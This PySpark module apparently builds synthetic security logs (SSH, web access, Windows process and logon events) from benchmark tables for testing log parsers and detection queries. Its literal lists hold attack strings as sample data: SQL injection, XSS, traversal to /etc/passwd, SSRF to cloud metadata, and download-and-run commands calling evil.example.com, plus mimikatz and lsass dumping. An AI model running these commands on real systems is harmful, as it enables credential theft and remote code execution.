"""The driver tables seen as security logs.

``sec_events`` maps each row of the driver's ``events`` table to one
normalised security event (same rule in Spark here and in DuckDB in
:mod:`secspark.plans.oracle`); the ``render_*`` functions turn it back into
raw log text, which the registered queries parse with the real parse jobs.
All work grows with ``events`` (and ``pages``); nothing is sampled.

Mapping: ``error`` -> failed login; ``signup``/``click`` -> successful login;
``view`` -> HTTP request; ``purchase`` -> process creation.  The failed-login
ip depends on the user only; the successful-login ip's first octet is
``1 + (7 * event_id + user_id) % 60`` (so XX and private ``10.`` appear).
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

# --------------------------------------------------------------------------
# FIXED VALUES: literal lists the mapping picks from by ``event_id % k``.
# ``{id}`` is replaced by the event id.
# --------------------------------------------------------------------------
WEB_PATHS = [
    "/index.html",
    "/search?q=shoes&page={id}",
    "/search?q=1' OR '1'='1&id={id}",
    "/search?q=1 UNION SELECT NULL, username FROM users-- &id={id}",
    "/item/{id}?ref=home#top",
    "/search?q=<script>alert({id})</script>",
    "/search?q=<img src=x onerror=alert({id})>",
    "/go?next=javascript:alert({id})",
    "/../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd?v={id}",
    "/ping?host=8.8.8.8;cat /etc/hosts&id={id}",
    "/ping?host=127.0.0.1|id&n={id}",
    "/run?cmd=`whoami`&n={id}",
    "/fetch?url=http://169.254.169.254/latest/meta-data/&n={id}",
    "/fetch?url=http://localhost:8080/admin&n={id}",
    "/page?file=https://evil.example.com/shell.txt&n={id}",
    "/api/v1/users/{id}",
    "/search?q=sleep(5)&n={id}",
    "/report?sql=select name from users&n={id}",
    "/login",
    "/a b/c d HTTP/1.0 x/{id}",
]
HTTP_METHODS = ["GET", "GET", "POST", "HEAD"]
HTTP_STATUS = [200, 200, 404, 500, 302, 403]
USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15",
    "sqlmap/1.7 (https://sqlmap.org)",
    "",
]
# (parent, process, command line)
PROCESSES = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\notes\\todo{id}.txt"),
    ("C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgACcAeAAnAA=="),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Tools\\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Tools\\procdump64.exe", "procdump.exe -ma lsass.exe lsass{id}.dmp"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe http://evil.example.com/p.dll,Run"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://evil.example.com/a.exe a{id}.exe"),
    ("C:\\Program Files\\Microsoft Office\\EXCEL.EXE", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')"),
    ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Program Files\\Adobe\\AcroRd32.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -w hidden -enc SQBFAFgA"),
    ("/usr/bin/bash", "/usr/bin/python3", "python3 /opt/app/run.py --id {id}"),
]
GROUPS = ["Administrators", "Remote Desktop Users", "wheel", "sudo", "Users", "admins"]
LOG_DIRS = ["/var/log", "/data/raw", "/srv/logs/2024", "C:/exports"]
LOG_NAMES = ["auth.log", "nginx_access.log", "apache_access.log", "events.jsonl", "win.evtx.json",
             "security.json", "access.log", "site.nginx", "site.apache", "README.txt", "NGINX-edge.log",
             "data.csv", "host.auth.log"]
SSH_YEAR = 2024
WINDOWS_OFFSETS_MIN = [0, 330, -420]


def pick(values: list, idx: Column) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), (idx % len(values) + 1).cast("int"))


def _s(c: Column) -> Column:
    return c.cast("string")


def load(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    """A driver table, dealt by its first column (an id) over the session's shuffle partitions: the rows
    are narrow here, and what the queries render and parse from them is much wider."""
    df = spark.read.parquet(f"{sf_dir}/{table}.parquet")
    return df.repartition(int(spark.conf.get("spark.sql.shuffle.partitions")), df.columns[0])


def sec_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The driver ``events`` table as normalised security events (+ ``event_id``, ``us``)."""
    e = load(spark, sf_dir, "events")
    eid, uid, et = F.col("event_id"), F.col("user_id"), F.col("event_type")
    ts = F.col("ts").cast("timestamp")
    login = et.isin("error", "signup", "click")
    user_ip = F.concat_ws(".", F.lit("203"), F.lit("0"), _s(uid % 256), _s((uid / 256).cast("bigint") % 256 + 1))
    succ_ip = F.concat_ws(".", _s(1 + (7 * eid + uid) % 60), _s(eid % 256), _s(uid % 256),
                          _s((eid / 256).cast("bigint") % 256))
    web_ip = F.concat_ws(".", _s(1 + (uid * 7) % 200), _s(eid % 256), F.lit("0"), _s(uid % 256))
    status = pick(HTTP_STATUS, eid)
    proc = (eid % len(PROCESSES)).cast("int")
    rid = _s(eid)
    out = e.select(
        eid.alias("event_id"), uid.alias("user_id"), et.alias("event_type"), F.col("value"),
        F.get_json_object("props", "$.k").cast("bigint").alias("k"),
        ts.alias("timestamp"), F.unix_micros(ts).alias("us"),
        F.concat(F.lit("user"), _s(uid)).alias("user_name"),
        F.when(login, F.lit("login")).when(et == "view", F.lit("http_request"))
         .when(et == "purchase", F.lit("process_create")).alias("event_action"),
        F.when(et == "error", F.lit("failure")).when(et == "view", F.when(status < 400, "success").otherwise("failure"))
         .otherwise(F.lit("success")).alias("event_outcome"),
        F.when(et == "error", user_ip).when(login, succ_ip).when(et == "view", web_ip).alias("source_ip"),
        user_ip.alias("user_ip"),
        (1024 + eid % 60000).cast("int").alias("source_port"),
        (1000 + eid % 30000).cast("int").alias("pid"),
        F.concat(F.lit("web-0"), _s(uid % 4)).alias("host"),
        F.when(et == "error", F.when(eid % 3 == 0, F.lit("ssh")).otherwise(F.lit("ssh2")))
         .when(login, F.when(eid % 2 == 0, F.lit("publickey")).otherwise(F.lit("password"))).alias("auth_method"),
        F.when(et == "view", pick(HTTP_METHODS, eid)).alias("http_method"),
        F.when(et == "view", F.replace(pick(WEB_PATHS, eid), F.lit("{id}"), rid)).alias("http_url"),
        F.when(et == "view", status).alias("http_status_code"),
        F.when(et == "view", pick(USER_AGENTS, (eid / 7).cast("bigint"))).alias("http_user_agent"),
        F.when(et == "purchase", F.element_at(F.array(*[F.lit(p[0]) for p in PROCESSES]), proc + 1)).alias("process_parent_name"),
        F.when(et == "purchase", F.element_at(F.array(*[F.lit(p[1]) for p in PROCESSES]), proc + 1)).alias("process_name"),
        F.when(et == "purchase", F.replace(F.element_at(F.array(*[F.lit(p[2]) for p in PROCESSES]), proc + 1),
                                           F.lit("{id}"), rid)).alias("process_command_line"),
    )
    return out


def as_events(se: DataFrame, ip_col: str = "source_ip") -> DataFrame:
    """``sec_events`` in the event schema (+ ``event_id`` and ``ingest_seq``)."""
    from ..operators.parse import event_struct
    ev = event_struct(
        timestamp=F.col("timestamp"), source_type=F.lit("driver"),
        user_name=F.col("user_name"), source_ip=F.col(ip_col), source_port=F.col("source_port"),
        destination_host=F.col("host"), event_action=F.col("event_action"), event_outcome=F.col("event_outcome"),
        process_name=F.col("process_name"), process_command_line=F.col("process_command_line"),
        process_parent_name=F.col("process_parent_name"), process_pid=F.col("pid"),
        http_method=F.col("http_method"), http_url=F.col("http_url"), http_status_code=F.col("http_status_code"),
        http_user_agent=F.col("http_user_agent"), auth_method=F.col("auth_method"))
    return se.select("event_id", F.col("event_id").alias("ingest_seq"), ev.alias("_e")).select(
        "event_id", "ingest_seq", "_e.*")


# --------------------------------------------------------------------------
# Renderers: sec_events -> raw text
# --------------------------------------------------------------------------
def render_ssh(se: DataFrame) -> DataFrame:
    """Auth-log lines: failures, accepted logins, invalid users; systemd noise and blanks."""
    eid = F.col("event_id")
    head = F.concat(F.date_format("timestamp", "MMM"), F.lit(" "), F.lpad(_s(F.dayofmonth("timestamp")), 2, " "),
                    F.lit(" "), F.date_format("timestamp", "HH:mm:ss"), F.lit(" "), F.col("host"))
    tail = F.concat(F.lit(" from "), F.col("source_ip"), F.lit(" port "), _s(F.col("source_port")))
    sshd = F.concat(head, F.lit(" sshd["), _s(F.col("pid")), F.lit("]: "))
    et = F.col("event_type")
    line = (F.when((et == "error") & (F.col("auth_method") == "ssh"),
                   F.concat(sshd, F.lit("Invalid user "), F.col("user_name"), tail))
             .when(et == "error", F.concat(sshd, F.lit("Failed password for "),
                                           F.when(eid % 5 == 0, F.lit("invalid user ")).otherwise(F.lit("")),
                                           F.col("user_name"), tail, F.lit(" ssh2")))
             .when(et.isin("signup", "click"), F.concat(sshd, F.lit("Accepted "), F.col("auth_method"), F.lit(" for "),
                                                       F.col("user_name"), tail, F.lit(" ssh2")))
             .when(et == "purchase", F.concat(head, F.lit(" systemd[1]: Started Session "), _s(eid),
                                              F.lit(" of user "), F.col("user_name"), F.lit(".")))
             .otherwise(F.lit("")))
    return se.select("event_id", line.alias("value"))


def render_access(se: DataFrame) -> DataFrame:
    """Combined access-log lines for HTTP events, local time with one of three offsets."""
    eid = F.col("event_id")
    off = pick(WINDOWS_OFFSETS_MIN, eid)
    local = F.timestamp_add("MINUTE", off, F.col("timestamp"))
    sign = F.when(off < 0, F.lit("-")).otherwise(F.lit("+"))
    offtxt = F.concat(sign, F.lpad(_s((F.abs(off) / 60).cast("int")), 2, "0"), F.lpad(_s(F.abs(off) % 60), 2, "0"))
    user = F.when(eid % 4 == 0, F.col("user_name")).otherwise(F.lit("-"))
    line = F.concat(F.col("source_ip"), F.lit(" - "), user, F.lit(" ["),
                    F.date_format(local, "dd/MMM/yyyy:HH:mm:ss"), F.lit(" "), offtxt, F.lit('] "'),
                    F.col("http_method"), F.lit(" "), F.col("http_url"), F.lit(' HTTP/1.1" '),
                    _s(F.col("http_status_code")), F.lit(" "), _s(100 + eid % 5000), F.lit(' "-" "'),
                    F.col("http_user_agent"), F.lit('"'))
    return se.filter(F.col("event_type") == "view").select("event_id", line.alias("value"))


def render_bad_access(se: DataFrame) -> DataFrame:
    """Access-log lines that must be rejected, for the events that :func:`render_access` leaves out: without
    referer and agent, with an identity, with a size that is no number, with a month that does not exist."""
    eid = F.col("event_id")
    at = F.date_format("timestamp", "dd/MMM/yyyy:HH:mm:ss")
    ip = F.coalesce("source_ip", F.lit("10.0.0.1"))
    start, request = F.concat(ip, F.lit(" - - [")), F.lit(' +0000] "GET /a HTTP/1.1" 200 ')
    line = (F.when(eid % 4 == 0, F.concat(start, at, request, F.lit("12")))
             .when(eid % 4 == 1, F.concat(ip, F.lit(" ident - ["), at, request, F.lit('12 "-" "ua"')))
             .when(eid % 4 == 2, F.concat(start, at, request, F.lit('- "-" "ua"')))
             .otherwise(F.concat(start, F.date_format("timestamp", "dd/'Foo'/yyyy:HH:mm:ss"), request, F.lit('12 "-" "ua"'))))
    return se.filter(F.col("event_type") != "view").select("event_id", line.alias("value"))


def render_bad_windows(se: DataFrame) -> DataFrame:
    """Windows records that must be rejected, for the events that :func:`render_windows` leaves out: another
    event id, no time, broken JSON, an array."""
    eid = F.col("event_id")
    iso = F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss'Z'")
    good = F.to_json(F.struct(F.lit(4624).alias("EventID"), iso.alias("TimeCreated"), F.col("user_name").alias("TargetUserName")))
    line = (F.when(eid % 4 == 0, F.replace(good, F.lit("4624"), F.lit("4634")))
             .when(eid % 4 == 1, F.replace(good, F.lit("TimeCreated"), F.lit("Time")))
             .when(eid % 4 == 2, F.substring(good, F.lit(1), F.length(good) - 1))
             .otherwise(F.concat(F.lit("["), good, F.lit("]"))))
    return se.filter(F.col("event_type") == "view").select("event_id", line.alias("value"))


def render_windows(se: DataFrame) -> DataFrame:
    """One Windows event JSON object per line, in four shapes (by ``event_id % 4``)."""
    eid, et = F.col("event_id"), F.col("event_type")
    win_id = F.when(et == "error", F.lit(4625)).when(et == "purchase", F.lit(4688)).otherwise(F.lit(4624))
    lt = _s(2 + F.col("k") % 10)
    iso = F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS")

    def kv(k, v, lower=False):
        return F.struct(F.lit(k).alias("key" if lower else "Key"), v.alias("value" if lower else "Value"))

    is_proc = et == "purchase"
    v = eid % 4
    logon_props = F.array(kv("TargetUserName", F.col("user_name")), kv("IpAddress", F.col("source_ip")),
                          kv("LogonType", lt))
    proc_props = F.array(kv("SubjectUserName", F.col("user_name")), kv("NewProcessName", F.col("process_name")),
                         kv("ParentProcessName", F.col("process_parent_name")),
                         kv("CommandLine", F.col("process_command_line")))
    flat_logon = F.to_json(F.struct(_s(win_id).alias("event_id"), F.concat(iso, F.lit("Z")).alias("time_created"),
                                    F.col("user_name").alias("TargetUserName"), F.col("source_ip").alias("IpAddress"),
                                    (2 + F.col("k") % 10).alias("LogonType")))
    flat_proc = F.to_json(F.struct(_s(win_id).alias("event_id"), F.concat(iso, F.lit("Z")).alias("time_created"),
                                   F.col("user_name").alias("user_name"), F.col("process_name").alias("process_name"),
                                   F.col("process_parent_name").alias("ParentProcessName"),
                                   F.col("process_command_line").alias("CommandLine")))
    msg_logon = F.to_json(F.struct(iso.alias("TimeCreated"),
                                   F.concat(F.lit("An account logon. EventID: "), _s(win_id)).alias("Message"),
                                   F.array(kv("TargetUserName", F.col("user_name"), True), kv("LogonType", lt, True)).alias("properties")))
    msg_proc = F.to_json(F.struct(iso.alias("TimeCreated"),
                                  F.concat(F.lit("A process was created. eventid = "), _s(win_id)).alias("Message"),
                                  F.array(kv("CommandLine", F.col("process_command_line"), True),
                                          kv("NewProcessName", F.col("process_name"), True)).alias("properties")))
    dup_logon = F.to_json(F.struct(win_id.alias("EventID"), F.concat(iso, F.lit("-00:00")).alias("TimeGenerated"),
                                   F.array(kv("TargetUserName", F.lit("placeholder")), kv("TargetUserName", F.col("user_name")),
                                           kv("IpAddress", F.lit("::1"))).alias("Properties")))
    dup_proc = F.to_json(F.struct(win_id.alias("EventID"), F.concat(iso, F.lit("-00:00")).alias("TimeGenerated"),
                                  F.array(kv("CommandLine", F.lit("")), kv("NewProcessName", F.col("process_name")),
                                          kv("SubjectUserName", F.col("user_name"))).alias("Properties"),
                                  F.col("process_command_line").alias("CommandLine")))
    props_struct = F.to_json(F.struct(win_id.alias("EventID"), F.concat(iso, F.lit("+00:00")).alias("TimeCreated"),
                                      F.when(is_proc, proc_props).otherwise(logon_props).alias("Properties"),
                                      F.concat(F.lit("An event was logged. EventID="), _s(win_id)).alias("Message")))
    line = (F.when(v == 0, props_struct)
             .when(v == 1, F.when(is_proc, flat_proc).otherwise(flat_logon))
             .when(v == 2, F.when(is_proc, msg_proc).otherwise(msg_logon))
             .otherwise(F.when(is_proc, dup_proc).otherwise(dup_logon)))
    return se.filter(et != "view").select("event_id", line.alias("value"))


def render_jsonl(se: DataFrame) -> DataFrame:
    """Pre-normalised JSON lines; 1 in 17 broken, 1 in 19 without a timestamp."""
    eid = F.col("event_id")
    iso = F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS")
    off = pick(WINDOWS_OFFSETS_MIN, (eid / 3).cast("bigint"))
    local = F.timestamp_add("MINUTE", off, F.col("timestamp"))
    sign = F.when(off < 0, F.lit("-")).otherwise(F.lit("+"))
    off_iso = F.concat(F.date_format(local, "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"), sign,
                       F.lpad(_s((F.abs(off) / 60).cast("int")), 2, "0"), F.lit(":"), F.lpad(_s(F.abs(off) % 60), 2, "0"))
    ts_text = (F.when(eid % 4 == 0, F.concat(iso, F.lit("Z"))).when(eid % 4 == 1, F.concat(iso, F.lit("+00:00")))
                .when(eid % 4 == 2, iso).otherwise(off_iso))
    body = F.struct(
        F.when(eid % 19 != 0, ts_text).alias("timestamp"),
        F.when(eid % 3 == 0, F.lit("custom")).alias("source_type"),
        F.col("user_name"), F.col("source_ip"), F.col("source_port"), F.col("event_action"), F.col("event_outcome"),
        F.col("http_url"), F.col("http_status_code"), F.col("auth_method"),
        _s(eid).alias("event_id"), F.col("k").alias("k"))
    line = F.when(eid % 17 == 0, F.concat(F.lit('{"timestamp": "'), iso, F.lit('", broken'))).otherwise(F.to_json(body))
    return se.select("event_id", line.alias("value"))


def render_group_adds(se: DataFrame) -> DataFrame:
    """JSON lines for group-membership changes (for AG-001): one per signup."""
    eid = F.col("event_id")
    body = F.struct(F.concat(F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"), F.lit("Z")).alias("timestamp"),
                    F.col("user_name"), F.lit("group_member_add").alias("event_action"),
                    pick(GROUPS, (eid / 5).cast("bigint")).alias("group"), F.lit("4732").alias("event_id"),
                    _s(eid).alias("record_id"))
    return se.filter(F.col("event_type") == "signup").select("event_id", F.to_json(body).alias("value"))


# --------------------------------------------------------------------------
# Driver-table rendering for the legacy queries
# --------------------------------------------------------------------------
LEGACY_METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD"]


def render_legacy_lines(se: DataFrame) -> DataFrame:
    """Mixed legacy lines: SSH failures, short access lines, JSON logins and processes."""
    eid, et = F.col("event_id"), F.col("event_type")
    iso = F.concat(F.date_format("timestamp", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"), F.lit("Z"))
    ssh = F.concat(F.date_format("timestamp", "MMM"), F.lit(" "), F.lpad(F.dayofmonth("timestamp").cast("string"), 2, " "),
                   F.lit(" "), F.date_format("timestamp", "HH:mm:ss"), F.lit(" "), F.col("host"), F.lit(" sshd["),
                   F.col("pid").cast("string"), F.lit("]: Failed password for "),
                   F.when(eid % 5 == 0, F.lit("invalid user ")).otherwise(F.lit("")), F.col("user_name"),
                   F.lit(" from "), F.col("user_ip"), F.lit(" port "), F.col("source_port").cast("string"), F.lit(" ssh2"))
    web = F.concat(F.col("source_ip"), F.lit(" - - ["), F.date_format("timestamp", "dd/MMM/yyyy:HH:mm:ss"),
                   F.lit(' +0000] "'), pick(LEGACY_METHODS, eid), F.lit(" "), F.col("http_url"),
                   F.lit(' HTTP/1.1" '), F.col("http_status_code").cast("string"), F.lit(" "),
                   F.when(eid % 3 == 0, F.lit("-")).otherwise((100 + eid % 900).cast("string")))
    login = F.to_json(F.struct(iso.alias("timestamp"),
                               F.when(eid % 2 == 0, F.lit("login_success")).otherwise(F.lit("auth_success")).alias("event_type"),
                               F.lit("vpn").alias("source"), F.col("host").alias("host"), F.col("user_name").alias("user"),
                               F.col("source_ip").alias("ip"), F.lit("login ok").alias("message"),
                               eid.alias("line_no")))
    proc = F.to_json(F.struct(iso.alias("timestamp"),
                              F.when(eid % 2 == 0, F.lit("process_creation")).otherwise(F.lit("windows_event")).alias("event_type"),
                              F.lit("windows").alias("source"), F.col("host").alias("host"), F.col("user_name").alias("user"),
                              F.col("process_command_line").alias("message"),
                              F.when(eid % 9 == 0, F.lit(True)).alias("encoded_powershell"), eid.alias("line_no")))
    line = (F.when(et == "error", ssh).when(et == "view", web).when(et.isin("signup", "click"), login)
             .otherwise(proc))
    return se.select(eid.alias("event_id"), line.alias("value"))
